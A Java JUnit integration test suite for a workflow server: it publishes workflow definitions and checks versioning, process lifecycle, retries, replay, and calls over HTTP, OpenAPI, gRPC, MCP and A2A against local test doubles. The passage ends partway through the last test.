package dev.parley.server;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.util.RawValue;
import com.google.protobuf.StringValue;
import com.sun.net.httpserver.HttpExchange;
import dev.parley.platform.database.Database;
import dev.parley.platform.database.Tenant;
import dev.parley.platform.testkit.GrpcDouble;
import dev.parley.platform.testkit.HttpDouble;
import dev.parley.server.Api.Answer;
import io.grpc.Status;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import org.awaitility.Awaitility;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Workflows over HTTP: publishing, processes and tasks, with a fake of the called services. */
class WorkflowsIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration SOON = Duration.ofSeconds(60);

    @TempDir
    static Path folder;

    private HttpDouble called;
    private static Instance instance;
    private static Api api;
    private static @Nullable Api tenant;
    private static @Nullable Api mallory;
    private static Map<String, String> environment;

    @BeforeAll
    static void start() throws IOException {
        // replaces the container engine: same command line, but runs the command on this machine
        Path engine = Files.writeString(folder.resolve("engine"), """
            #!/bin/sh
            while [ "$1" != -c ]; do shift; done
            exec /bin/sh "$@"
            """);
        assertTrue(engine.toFile().setExecutable(true));
        Files.writeString(folder.resolve("parley.yml"), """
            tools:
              allowedHosts: ["127.0.0.1"]
              secrets: { "env:PATH": { to: [127.0.0.1], projects: [default], hosts: [default] } }
            commandsAsRoot: true
            workflows:
              shell: { projects: [default], hosts: [default] }
              containers: { program: "%s", images: ["alpine"], projects: [default], hosts: [default] }
            permissions:
              - { tool: "*", action: allow }
              - { agent: careful, tool: workflow_show, action: ask }
            agents:
              - name: default
                tools: [workflow_start, workflow_show, workflow_signal]
              - { name: payer, tools: [pay] }
              - { name: careful, tools: [workflow_show] }
            """.formatted(engine));
        environment = Instances.environment(folder.resolve("data"));
        instance = Instances.start(environment);
        api = Api.of(instance);
    }

    @AfterAll
    static void stop() {
        instance.close();
    }

    @BeforeEach
    void openDouble() throws IOException {
        called = new HttpDouble();
    }

    @AfterEach
    void closeDouble() {
        called.close();
    }

    // ---- helpers

    private static String definition(String name, String version, String body) {
        return "document: { dsl: '1.0.3', namespace: test, name: %s, version: '%s' }\n%s"
                .formatted(name, version, body);
    }

    private static Answer publish(String yaml) {
        return api.postYaml("/v1/workflows", yaml);
    }

    /** Publishes the first version of a workflow. */
    private void given(String name, String body) {
        Answer published = publish(
                definition(name, "1.0.0", body.replace("$URL", called.url().toString())));
        assertEquals(201, published.status(), published.text());
    }

    private static Answer startProcess(String name, Object body) {
        return api.post("/v1/workflows/test:" + name + "/instances?wait=60s", body);
    }

    /** Starts a process without input, and waits for its end. */
    private static JsonNode run(String name) {
        Answer answer = startProcess(name, null);
        assertEquals(200, answer.status(), answer.text());
        return answer.json();
    }

    private static JsonNode process(String id) {
        return api.get("/v1/processes/" + id + "?fresh=true").json();
    }

    private static List<JsonNode> tasks(String id) {
        return api.list("/v1/processes/" + id + "/tasks?fresh=true");
    }

    private static JsonNode waitingTask(String process) {
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.list("/v1/tasks?fresh=true").stream()
                        .anyMatch(task -> task.path("processId").asText().equals(process)));
        return api.list("/v1/tasks").stream()
                .filter(task -> task.path("processId").asText().equals(process))
                .findFirst()
                .orElseThrow();
    }

    // ---- definitions

    @Test
    @Tag("W5")
    void processesKeepTheVersionThatTheyStartedWith() {
        // Given
        String first = definition(
                "versions", "1.0.0", "do: [ { ask: { ask: { prompt: go on? } } }, { end: { set: { v: 1 } } } ]\n");
        assertEquals(201, publish(first).status());
        String running = api.post("/v1/workflows/test:versions/instances", null)
                .json()
                .path("id")
                .asText();
        String second = definition("versions", "1.10.0", "do: [ { end: { set: { v: 2 } } } ]\n");
        String published = publish(second).json().path("id").asText();
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.list("/v1/audit?source=workflow").stream()
                        .anyMatch(row -> row.path("subject").asText().equals(published)));
        assertEquals(
                201,
                publish(second.replace("1.10.0", "1.9.0").replace("v: 2", "v: 9"))
                        .status());

        // When
        assertEquals(200, publish(first).status(), "the same again changes nothing");
        Answer other = publish(first.replace("v: 1", "v: 3"));

        // Then
        assertEquals(409, other.status());
        assertEquals("version_exists", other.code());
        assertEquals(2, run("versions").path("output").path("v").asInt(), "the newest by its numbers");
        assertEquals(
                202,
                api.post("/v1/workflows/test:versions:1.0.0/instances", null).status());
        api.post("/v1/tasks/" + waitingTask(running).path("id").asText() + "/complete", Map.of("value", "yes"));
        assertEquals(
                1,
                api.get("/v1/processes/" + running + "?wait=60s")
                        .json()
                        .path("output")
                        .path("v")
                        .asInt());
    }

    @Test
    @Tag("W6")
    void storesADefinitionVerbatimAndLocatesErrors() {
        // Given
        String yaml = definition(
                "bytes", "1.0.0", "# a comment – with a dash\ndo:\n  - a: { set: { x: 1 } }   # and one more\n");
        String id = publish(yaml).json().path("id").asText();

        // When
        Answer broken = publish(
                definition("broken", "1.0.0", "do:\n  - a: { set: { x: '${ .b | }' } }\n  - b: { cal: http }\n"));

        // Then
        assertEquals(yaml, api.get("/v1/workflows/" + id + "/definition").text());
        assertEquals(400, broken.status());
        assertEquals("invalid_definition", broken.code());
        JsonNode error = broken.json().path("errors").get(0);
        assertEquals("/do/0/a/set/x", error.path("pointer").asText(), broken.text());
        assertEquals(3, error.path("line").asInt());
        assertTrue(broken.text().contains("'cal'") && broken.text().contains("call"), broken.text());
        assertEquals(404, api.get("/v1/workflows/test:broken").status());
        assertTrue(api.get("/v1/workflows/" + id + "/diagram").text().startsWith("flowchart"));
    }

    @Test
    @Tag("W7")
    void processOfADeletedDefinitionCompletes() {
        // Given
        String yaml = definition("gone", "1.0.0", "do: [ { ask: { ask: { prompt: go on? } } } ]\n");
        String id = publish(yaml).json().path("id").asText();
        String process = api.post("/v1/workflows/" + id + "/instances", null)
                .json()
                .path("id")
                .asText();

        // When
        assertEquals(204, api.delete("/v1/workflows/" + id).status());

        // Then
        assertEquals(404, api.post("/v1/workflows/" + id + "/instances", null).status());
        api.post("/v1/tasks/" + waitingTask(process).path("id").asText() + "/complete", Map.of("value", "yes"));
        assertEquals(
                "completed",
                api.get("/v1/processes/" + process + "?wait=60s")
                        .json()
                        .path("phase")
                        .asText());
        assertEquals(201, publish(yaml).status(), "it can be published again");
        assertEquals(id, publish(yaml).json().path("id").asText());
    }

    // ---- processes

    @Test
    @Tag("W9")
    @Tag("W18")
    void startsAProcessOncePerIdOrKeyAndValidatesItsInput() {
        // Given
        given("names", """
            input: { schema: { document: { type: object, required: [n], properties: { n: { type: integer } } } } }
            do: [ { end: { set: { n: '${ .n + 1 }' } } } ]
            """);
        var body = Map.of("instanceId", "order-7", "input", Map.of("n", 1));

        // When
        JsonNode first = startProcess("names", body).json();
        JsonNode repeated = startProcess("names", body).json();
        var key = Map.of("Idempotency-Key", "k-1");
        JsonNode firstKeyed = api.post("/v1/workflows/test:names/instances", Map.of("input", Map.of("n", 5)), key)
                .json();
        JsonNode secondKeyed = api.post("/v1/workflows/test:names/instances", Map.of("input", Map.of("n", 6)), key)
                .json();
        Answer invalid = startProcess("names", Map.of("instanceId", "order-8", "input", Map.of("n", "x")));

        // Then
        assertEquals(first.path("id"), repeated.path("id"));
        assertEquals(firstKeyed.path("id"), secondKeyed.path("id"));
        assertEquals(2, first.path("output").path("n").asInt());
        assertEquals(400, invalid.status());
        assertEquals("invalid_input", invalid.code());
        assertEquals(0, api.list("/v1/processes?instanceId=order-8&fresh=true").size());
        assertEquals(1, api.list("/v1/processes?instanceId=order-7&fresh=true").size());
    }

    @Test
    @Tag("W8")
    @Tag("W10")
    @Tag("W15")
    void filtersByBusinessKeysAndKeepsTheirDigits() {
        // Given
        given("keys", """
            do:
              - note: { set: { done: true }, export: { as: '${ { business: { customStatusCode: "LATE", resultCode: "OK" } } }' } }
            """);
        var business = Map.of(
                "partyId", "p-9",
                "price", "12.3400",
                "currencyCode", "EUR",
                "eventStart", "2026-03-01T09:30:00Z");

        // When
        JsonNode process = startProcess("keys", Map.of("business", business)).json();
        Answer wrong = startProcess("keys", Map.of("business", Map.of("currencyCode", "XXY", "colour", "red")));

        // Then
        assertEquals("12.3400", process.path("business").path("price").asText());
        assertEquals("LATE", process.path("business").path("customStatusCode").asText());
        for (String filter : List.of(
                "partyId=p-9",
                "price=12.34",
                "currencyCode=EUR",
                "customStatusCode=LATE",
                "resultCode=OK",
                "eventStartFrom=2026-03-01T00:00:00Z&eventStartTo=2026-03-02T00:00:00Z")) {
            List<JsonNode> found = api.list("/v1/processes?fresh=true&" + filter);
            assertEquals(1, found.size(), filter);
            assertEquals(
                    "12.3400", found.getFirst().path("business").path("price").asText());
        }
        assertEquals(
                0, api.list("/v1/processes?eventStartFrom=2026-03-02T00:00:00Z").size());
        assertEquals(400, wrong.status());
        assertTrue(wrong.text().contains("XXY") && wrong.text().contains("colour"), wrong.text());
        assertEquals(400, api.get("/v1/processes?colour=red").status());
        assertEquals(400, api.get("/v1/processes?price=cheap").status());
    }

    @Test
    @Tag("W20")
    @Tag("W21")
    @Tag("W28")
    void eachTaskRunHasARowAndAnErrorNamesItsTask() {
        // Given
        given("rows", """
            do:
              - loop: { for: { each: n, in: '${ [1, 2, 3] }' }, do: [ { twice: { set: { n: '${ $n * 2 }' } } } ] }
              - fail: { raise: { error: { type: 'https://example.com/errors/broke', status: 422, title: Broke } } }
            """);

        // When
        JsonNode process = run("rows");
        List<JsonNode> rows = tasks(process.path("id").asText());

        // Then
        assertEquals("F", process.path("status").asText());
        assertEquals("/do/1/fail", process.path("error").path("instance").asText());
        assertEquals(422, process.path("error").path("status").asInt());
        assertEquals(
                List.of("loop", "twice", "twice", "twice", "fail"),
                rows.stream().map(row -> row.path("name").asText()).toList());
        assertEquals(
                5,
                rows.stream().map(row -> row.path("path").asText()).distinct().count());
        assertEquals(6, rows.get(3).path("output").path("n").asInt());
        assertEquals("F", rows.getLast().path("status").asText());
        assertEquals("F", process(process.path("id").asText()).path("status").asText());
    }

    @Test
    @Tag("W16")
    void childProcessNamesItsParentAndIsCancelledWithIt() {
        // Given
        given(
                "child",
                "do: [ { hold: { if: '${ .hold }', ask: { prompt: hold } } }, { end: { set: { n: '${ 42 }' } } } ]\n");
        given("parent", """
            do: [ { inner: { run: { workflow: { namespace: test, name: child, version: latest, input: { hold: '${ .hold }' } } } } } ]
            """);

        assertEquals(
                42,
                startProcess("parent", Map.of("input", Map.of("hold", false)))
                        .json()
                        .path("output")
                        .path("n")
                        .asInt());
        String parent = api.post("/v1/workflows/test:parent/instances", Map.of("input", Map.of("hold", true)))
                .json()
                .path("id")
                .asText();
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.list("/v1/processes?parentId=" + parent).size() == 1);
        JsonNode child = api.list("/v1/processes?parentId=" + parent).getFirst();
        waitingTask(child.path("id").asText());

        // When
        Answer cancelled = api.post("/v1/processes/" + parent + "/cancel", Map.of("reason", "no more"));

        // Then
        assertEquals("X", cancelled.json().path("status").asText());
        Awaitility.await()
                .atMost(SOON)
                .until(() -> process(child.path("id").asText())
                        .path("status")
                        .asText()
                        .equals("X"));
        assertEquals(409, api.post("/v1/processes/" + parent + "/cancel", null).status());
        JsonNode restarted =
                api.post("/v1/processes/" + parent + "/restart", null).json();
        assertEquals(parent, restarted.path("originId").asText());
        assertNotEquals(parent, restarted.path("id").asText());
    }

    @Test
    @Tag("W13")
    void suspendsAndResumesAProcess() {
        // Given
        given(
                "pauses",
                "do: [ { nap: { wait: PT0.3S } }, { hold: { ask: { prompt: hold } } }, { end: { set: { n: 1 } } } ]\n");
        String id = api.post("/v1/workflows/test:pauses/instances", null)
                .json()
                .path("id")
                .asText();
        String task = waitingTask(id).path("id").asText();

        // When
        JsonNode suspended = api.post("/v1/processes/" + id + "/suspend", null).json();
        api.post("/v1/tasks/" + task + "/complete", Map.of("value", "x"));
        JsonNode stillSuspended = process(id);
        JsonNode resumed = api.post("/v1/processes/" + id + "/resume", null).json();

        // Then
        assertEquals("S", suspended.path("status").asText());
        assertEquals("S", stillSuspended.path("status").asText());
        assertTrue(stillSuspended.path("next").asText().contains("resumes"), stillSuspended.toString());
        assertEquals("C", resumed.path("status").asText());
    }

    @Test
    @Tag("W43")
    void streamsTheEventsOfAProcessUntilItsEnd() throws Exception {
        // Given
        given("watched", "do: [ { check: { ask: { prompt: 'Well?' } } }, { end: { set: { n: 1 } } } ]\n");
        String id = api.post("/v1/workflows/test:watched/instances", null)
                .json()
                .path("id")
                .asText();
        String task = waitingTask(id).path("id").asText();
        try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
            var started = new CountDownLatch(1);
            var events = threads.submit(() -> api.watch("/v1/processes/" + id + "/events")
                    .peek(_ -> started.countDown())
                    .filter(line -> line.startsWith("event: "))
                    .map(line -> line.substring("event: ".length()))
                    .toList());
            started.await();

            // When
            api.post("/v1/tasks/" + task + "/complete", Map.of("value", "x"));

            // Then
            assertEquals(
                    List.of(
                            "process",
                            "io.serverlessworkflow.task.resumed.v1",
                            "io.serverlessworkflow.task.completed.v1",
                            "io.serverlessworkflow.task.started.v1",
                            "io.serverlessworkflow.task.completed.v1",
                            "io.serverlessworkflow.workflow.completed.v1"),
                    events.get().stream()
                            .filter(type -> !type.startsWith("dev.parley"))
                            .toList());
        }
    }

    @Test
    @Tag("W12")
    @Tag("W14")
    @Tag("W17")
    void businessKeysChangeUntilTheEndAndAreFilterableByTime() {
        // Given
        given("about", """
            do:
              - first: { input: { from: .given }, set: { n: '${ . + 1 }' }, output: { as: '{ out: .n }' } }
              - hold: { ask: { prompt: hold } }
              - note: { set: { business: { customStatusCode: SETTLED } }, export: { as: . } }
            """);
        var business = Map.of(
                "eventStart", "2025-04-01T08:00:00Z",
                "eventEnd", "2025-04-02T08:00:00Z",
                "eventOtherTime", "2025-04-03T08:00:00Z",
                "eventOther", "inspection");
        String id = api.post(
                        "/v1/workflows/test:about/instances",
                        Map.of("input", Map.of("given", 41), "business", business))
                .json()
                .path("id")
                .asText();
        JsonNode task = waitingTask(id);

        // When
        Answer changed =
                patch(id, Map.of("business", Map.of("resultCode", "PAID", "deadline", "2020-01-01T00:00:00Z")));
        Answer wrong = patch(id, Map.of("business", Map.of("currencyCode", "XXY")));
        Answer unknown = patch(id, Map.of("colour", "red"));

        // Then
        assertEquals(200, changed.status(), changed.text());
        assertEquals(400, wrong.status());
        assertEquals(400, unknown.status());
        Awaitility.await()
                .atMost(SOON)
                .until(() -> api.list("/v1/audit?source=process").stream()
                        .anyMatch(row ->
                                row.toString().contains(id) && row.toString().contains("overdue")));
        assertFound(id, "overdue=true&resultCode=PAID");
        api.post("/v1/tasks/" + task.path("id").asText() + "/complete", Map.of("value", "go on"));
        JsonNode process = process(id);
        assertEquals("C", process.path("status").asText(), process.toString());
        assertEquals(
                "SETTLED", process.path("business").path("customStatusCode").asText());
        assertTrue(process.path("completedAt")
                        .asText()
                        .compareTo(process.path("startedAt").asText())
                >= 0);
        assertEquals(
                409, patch(id, Map.of("business", Map.of("resultCode", "LATE"))).status());
        assertEquals("PAID", process(id).path("business").path("resultCode").asText());
        assertFound(id, "eventStartFrom=2025-04-01T00:00:00Z&eventStartTo=2025-04-02T00:00:00Z");
        assertFound(
                id, "eventEndFrom=2025-04-02T00:00:00Z&eventOtherTimeTo=2025-04-04T00:00:00Z&eventOther=inspection");
        assertEquals(
                0,
                api.list("/v1/processes?definition=test:about&eventEndTo=2025-04-02T00:00:00Z")
                        .size());
    }

    private static Answer patch(String process, Object body) {
        return api.send("PATCH", "/v1/processes/" + process, body, Map.of());
    }

    private static void assertFound(String id, String filter) {
        assertEquals(
                List.of(id),
                api.list("/v1/processes?fresh=true&definition=test:about&" + filter).stream()
                        .map(row -> row.path("id").asText())
                        .toList(),
                filter);
    }

    @Test
    @Tag("W27")
    @Tag("W41")
    void retriesAFailedTaskAndRestartsFromATask() {
        // Given
        given("repaired", """
            do:
              - prepare: { input: { from: .order }, set: { order: '${ . }' }, output: { as: '{ order }' }, export: { as: '{ prepared: .order }' } }
              - pay: { call: http, with: { method: post, endpoint: '$URL/pay/{order}' } }
              - end: { set: { receipt: '${ .receipt }', order: '${ $context.prepared }' } }
            """);
        called.answers(
                HttpDouble.json(500, "{}"),
                HttpDouble.json(500, "{}"),
                HttpDouble.json(200, "{\"receipt\":\"r-1\"}"),
                HttpDouble.json(200, "{\"receipt\":\"r-2\"}"));
        JsonNode failed =
                startProcess("repaired", Map.of("input", Map.of("order", 7))).json();
        String id = failed.path("id").asText();
        assertEquals("F", failed.path("status").asText());
        assertTrue(process(id).path("next").asText().contains("retries or skips 'pay'"));

        JsonNode first = tasks(id).getFirst();
        assertEquals("7", first.path("input").toString());
        assertEquals("{\"order\":7}", first.path("output").toString());

        // When
        String path = "/v1/processes/" + id;
        assertEquals(
                200,
                api.post(path + "/retry", Map.of("reason", "the bank is back")).status());
        JsonNode failedAgain = api.get(path + "?wait=60s").json();
        assertEquals("F", failedAgain.path("status").asText());
        assertEquals(2, called.seen().size());
        assertEquals(409, api.post(path + "/retry", Map.of("task", "end")).status());
        assertEquals(400, api.post(path + "/retry", Map.of("output", 1)).status());
        assertEquals(200, api.post(path + "/retry", null).status());
        JsonNode process = api.get(path + "?wait=60s").json();

        // Then
        assertEquals("{\"receipt\":\"r-1\",\"order\":7}", process.path("output").toString(), process.toString());
        assertEquals(
                1,
                called.seen().subList(0, 3).stream()
                        .map(request -> request.header("Idempotency-Key"))
                        .distinct()
                        .count());
        assertEquals(409, api.post(path + "/restart", Map.of("from", "nope")).status());
        Answer restarted = api.post(path + "/restart", Map.of("from", "pay"));
        assertEquals(202, restarted.status(), restarted.text());
        assertTrue(
                tasks(id).stream()
                        .anyMatch(task -> task.path("comment").asText().equals("the bank is back")),
                tasks(id).toString());
        JsonNode repeated = api.get(
                        "/v1/processes/" + restarted.json().path("id").asText() + "?wait=60s")
                .json();
        assertEquals(
                "{\"receipt\":\"r-2\",\"order\":7}", repeated.path("output").toString(), repeated.toString());
        assertEquals(
                List.of("pay", "end"),
                tasks(repeated.path("id").asText()).stream()
                        .map(row -> row.path("name").asText())
                        .toList());
    }

    @Test
    @Tag("W21")
    void replayRebuildsTheTables() {
        // Given
        given("replayed", """
            do:
              - loop: { for: { each: n, in: '${ [1, 2] }' }, do: [ { twice: { set: { n: '${ $n * 2 }' } } } ] }
              - hold: { ask: { prompt: hold, assignment: { roleId: judge } } }
              - end: { set: { done: true }, export: { as: '{ business: { partyId: "p-1" } }' } }
            """);
        String completed = api.post("/v1/workflows/test:replayed/instances", null)
                .json()
                .path("id")
                .asText();
        String open = api.post("/v1/workflows/test:replayed/instances", null)
                .json()
                .path("id")
                .asText();
        waitingTask(open);
        String task = waitingTask(completed).path("id").asText();
        api.post("/v1/tasks/" + task + "/complete", Map.of("value", "x"));
        List<JsonNode> before = List.of(
                process(completed), process(open), api.get("/v1/tasks/" + task).json());
        List<JsonNode> tasks = tasks(completed);
        instance.beans()
                .getBean(Database.class)
                .in(Tenant.ALL, transaction -> transaction.update("DELETE FROM workflows.process_info_t"));

        // When
        int status = Parley.commandLine(environment, Program.installed()).execute("replay");

        // Then
        assertEquals(0, status);
        assertEquals(
                before,
                List.of(
                        process(completed),
                        process(open),
                        api.get("/v1/tasks/" + task).json()));
        assertEquals(tasks, tasks(completed));
        assertEquals("C", process(completed).path("status").asText());
    }

    // ---- calls

    @Test
    @Tag("W29")
    @Tag("W32")
    void retriesAnHttpCallAndUsesItsResponse() {
        // Given
        given("http", """
            do:
              - get:
                  try:
                    - pet:
                        call: http
                        with: { method: get, endpoint: '$URL/pets/{id}', query: { full: true }, headers: { X-Tenant: t1 } }
                  catch:
                    errors: { with: { type: https://serverlessworkflow.io/spec/1.0.0/errors/communication, status: 503 } }
                    retry: { delay: PT0.1S, limit: { attempt: { count: 3 } } }
              - send:
                  call: http
                  with: { method: post, endpoint: { uri: '$URL/orders' }, body: { pet: '${ .name }' }, output: response }
            """);
        called.answers(
                HttpDouble.json(503, "{}"),
                HttpDouble.json(200, "{\"name\":\"Milou\"}"),
                HttpDouble.json(201, "{\"id\":1}"));

        // When
        JsonNode process =
                startProcess("http", Map.of("input", Map.of("id", 7))).json();

        // Then
        assertEquals("C", process.path("status").asText(), process.toString());
        assertEquals(201, process.path("output").path("statusCode").asInt());
        var requests = called.seen();
        assertTrue(
                requests.get(0).path().startsWith("/pets/7?full=true"),
                requests.get(0).path());
        assertEquals("t1", requests.get(0).header("X-Tenant"));
        assertFalse(requests.get(0).header("Idempotency-Key").isEmpty());
        assertEquals("{\"pet\":\"Milou\"}", requests.get(2).body());
        List<JsonNode> attempts = tasks(process.path("id").asText()).stream()
                .filter(row -> row.path("name").asText().equals("pet"))
                .toList();
        assertEquals(
                List.of("F", "C"),
                attempts.stream().map(row -> row.path("status").asText()).toList());
    }

    @Test
    @Tag("W29")
    void anOperationOfOpenApiAndAMethodOfJsonRpcAreCalled() {
        // Given
        given("apis", """
            do:
              - pet:
                  call: openapi
                  with:
                    document: { endpoint: '$URL/openapi.json' }
                    operationId: getPet
                    parameters: { petId: 3 }
              - sum: { call: jsonrpc, with: { endpoint: '$URL/rpc', method: add, params: [1, 2] } }
            """);
        called.answers(
                HttpDouble.json(200, """
                    {"openapi":"3.0.0","servers":[{"url":"/v2"}],"paths":{"/pets/{petId}":{"get":{"operationId":"getPet",
                     "parameters":[{"name":"petId","in":"path","required":true}]}}}}\
                    """),
                HttpDouble.json(200, "{\"id\":3}"),
                HttpDouble.json(200, "{\"jsonrpc\":\"2.0\",\"id\":\"x\",\"result\":3}"));

        // When
        JsonNode process = run("apis");

        // Then
        assertEquals(3, process.path("output").asInt(), process.toString());
        assertEquals("/v2/pets/3", called.seen().get(1).path());
        assertTrue(called.seen().get(2).body().contains("\"method\":\"add\""));
    }

    @Test
    @Tag("B103")
    void anOpenApiServerHasVariablesAndParametersHaveStyles() {
        // Given
        given("styles", """
            do:
              - pets:
                  call: openapi
                  with:
                    document: { endpoint: '$URL/openapi.json' }
                    operationId: findPets
                    parameters: { id: 10000000.0, tags: [a, 'b c'], filter: { age: 0.0000005 }, sid: x, trace: [1, 2] }
            """);
        called.answers(
                HttpDouble.json(
                        200, """
                            {"openapi":"3.0.3","servers":[{"url":"http://127.0.0.1:{port}/{base}","variables":{
                             "port":{"enum":["$PORT","443"],"default":"$PORT"},"base":{"default":"api/v2"}}}],
                             "paths":{"/pets/{id}":{"get":{"operationId":"findPets","parameters":[
                             {"name":"id","in":"path","required":true,"style":"matrix"},
                             {"name":"tags","in":"query","style":"pipeDelimited"},
                             {"name":"filter","in":"query","style":"deepObject","explode":true},
                             {"name":"sid","in":"cookie"},{"name":"trace","in":"header"}]}}}}\
                            """.replace("$PORT", Integer.toString(called.url().getPort()))),
                HttpDouble.json(200, "[]"));

        // When
        JsonNode process = run("styles");

        // Then
        assertTrue(process.path("output").isArray(), process.toString());
        HttpDouble.Seen pets = called.seen().get(1);
        assertEquals("/api/v2/pets/;id=10000000.0?tags=a%7Cb%20c&filter%5Bage%5D=0.0000005", pets.path());
        assertEquals("sid=x 1,2", pets.header("Cookie") + " " + pets.header("Trace"));
    }

    @Test
    @Tag("W29")
    void sendsTheDeclaredBodyOfASwaggerOperation() {
        // Given
        given("swagger", """
            do:
              - pet:
                  call: openapi
                  with:
                    document: { endpoint: '$URL/swagger.json' }
                    operationId: addPet
                    parameters: { undeclared: x, pet: { name: Rex } }
            """);
        called.answers(HttpDouble.json(200, """
            {"swagger":"2.0","basePath":"/v1","paths":{"/pets":{
             "parameters":[{"name":"pet","in":"body"},{"name":"trace","in":"header","required":true}],
             "post":{"operationId":"addPet","parameters":[
              {"name":"pet","in":"body","required":true},{"name":"trace","in":"header"}]}}}}\
            """), HttpDouble.json(200, "{\"id\":3}"));

        // When
        JsonNode process = run("swagger");

        // Then
        assertEquals(3, process.path("output").path("id").asInt(), process.toString());
        assertEquals("/v1/pets", called.seen().get(1).path());
        assertEquals("{\"name\":\"Rex\"}", called.seen().get(1).body());
    }

    @Test
    @Tag("W29")
    @Tag("W32")
    void callsGrpcMethodsAndCatchesTheirStatus() throws IOException {
        // Given
        var replies = List.of(
                        GrpcDouble.Reply.of(Status.UNAVAILABLE),
                        GrpcDouble.Reply.of(StringValue.of("Hello Ann").toByteArray()),
                        GrpcDouble.Reply.of(Status.NOT_FOUND.withDescription("no Bob here")))
                .iterator();
        try (var greeter = new GrpcDouble(_ -> replies.next())) {
            for (int i = 0; i < 3; i++) {
                called.answers(HttpDouble.body(200, "text/plain", """
                    syntax = "proto3";
                    package greeting;
                    message Name { string first_name = 1; }
                    message Greeting { string text = 1; }
                    service Greeter { rpc SayHello (Name) returns (Greeting); }
                    """));
            }
            given("grpc", """
                use:
                  functions:
                    hello:
                      call: grpc
                      with:
                        proto: { endpoint: '$URL/greeter.proto' }
                        service: { name: greeting.Greeter, host: 127.0.0.1, port: $PORT }
                        method: SayHello
                        arguments: { firstName: '${ .name }' }
                do:
                  - ann:
                      try: [ { greet: { call: hello, with: { name: Ann } } } ]
                      catch:
                        errors: { with: { status: 503 } }
                        retry: { delay: PT0.1S, limit: { attempt: { count: 3 } } }
                      export: { as: '{ text: .text }' }
                  - bob:
                      try: [ { miss: { call: hello, with: { name: Bob } } } ]
                      catch:
                        errors: { with: { status: 404 } }
                        as: lost
                        do: [ { end: { set: { text: '${ $context.text }', lost: '${ $lost.detail }' } } } ]
                """.replace("$PORT", String.valueOf(greeter.port())));

            // When
            JsonNode process = run("grpc");

            // Then
            assertEquals("Hello Ann", process.path("output").path("text").asText(), process.toString());
            assertEquals(
                    "greeting.Greeter/SayHello is answered with NOT_FOUND: no Bob here",
                    process.path("output").path("lost").asText());
            var requests = greeter.seen();
            assertEquals("Ann", StringValue.parseFrom(requests.get(1).message()).getValue());
            assertFalse(requests.get(0).metadata().get("idempotency-key").isEmpty());
            assertEquals(
                    requests.get(0).metadata().get("idempotency-key"),
                    requests.get(1).metadata().get("idempotency-key"));
            assertNotEquals(
                    requests.get(1).metadata().get("idempotency-key"),
                    requests.get(2).metadata().get("idempotency-key"));
        }
    }

    @Test
    @Tag("W29")
    void aToolOfAnMcpServerIsCalled() throws IOException {
        // Given
        try (var shop = new HttpDouble()) {
            for (int i = 0; i < 10; i++) {
                shop.answers(exchange -> answerMcp(shop, exchange));
            }
            given("mcp", """
                use: { mcpSessions: { shop: { server: { endpoint: { uri: '$SHOP/mcp' }, transport: http } } } }
                do:
                  - price:
                      call: mcp
                      with: { session: shop, tool: price, arguments: { sku: '${ .sku }' } }
                  - end: { set: { price: '${ .structuredContent.price }' } }
                """.replace("$SHOP", shop.url().toString()));

            // When
            JsonNode process =
                    startProcess("mcp", Map.of("input", Map.of("sku", "a"))).json();

            // Then
            assertEquals("7.5", process.path("output").path("price").asText(), process.toString());
        }
    }

    /** Answers as a small MCP server does. */
    private static void answerMcp(HttpDouble shop, HttpExchange exchange) throws IOException, InterruptedException {
        if (!exchange.getRequestMethod().equals("POST")) {
            HttpDouble.json(405, "{}").write(exchange);
            return;
        }
        JsonNode request = JSON.readTree(shop.lastBody());
        if (!request.has("id")) {
            HttpDouble.json(202, "").write(exchange);
            return;
        }
        String result = switch (request.path("method").asText()) {
            case "initialize" ->
                """
                {"protocolVersion":"%s","capabilities":{"tools":{}},"serverInfo":{"name":"shop","version":"1"}}\
                """.formatted(request.path("params").path("protocolVersion").asText());
            case "tools/call" -> """
                {"content":[{"type":"text","text":"7.50"}],"structuredContent":{"price":7.5},"isError":false}\
                """;
            default -> "{}";
        };
        HttpDouble.json(200, "{\"jsonrpc\":\"2.0\",\"id\":%s,\"result\":%s}".formatted(request.get("id"), result))
                .write(exchange);
    }

    @Test
    @Tag("W29")
    void callsOpenRpcMethodsAndA2aAgents() {
        // Given
        given("elsewhere", """
            do:
              - sum: { call: openrpc, with: { document: { endpoint: '$URL/openrpc.json' }, method: sum, params: { b: 2, a: 1 } } }
              - ask:
                  call: a2a
                  with:
                    agentCard: { endpoint: '$URL/.well-known/agent-card.json' }
                    method: message/send
                    parameters: { message: { parts: [ { kind: text, text: '${ "Is it \\(.)?" }' } ] } }
              - end: { set: { said: '${ .status.message.parts[0].text }' } }
            """);
        called.answers(
                HttpDouble.json(200, """
                    {"openrpc":"1.3.2","servers":[{"url":"$URL/rpc"}],"methods":[{"name":"sum","paramStructure":"by-position",
                     "params":[{"name":"a","required":true},{"name":"b"}]}]}\
                    """.replace("$URL", called.url().toString())),
                HttpDouble.json(200, "{\"jsonrpc\":\"2.0\",\"id\":\"x\",\"result\":3}"),
                HttpDouble.json(
                        200,
                        "{\"name\":\"Oracle\",\"url\":\"$URL/a2a\"}"
                                .replace("$URL", called.url().toString())),
                HttpDouble.json(200, """
                    {"jsonrpc":"2.0","id":"y","result":{"id":"t1","status":{"state":"completed","message":{"role":"agent",
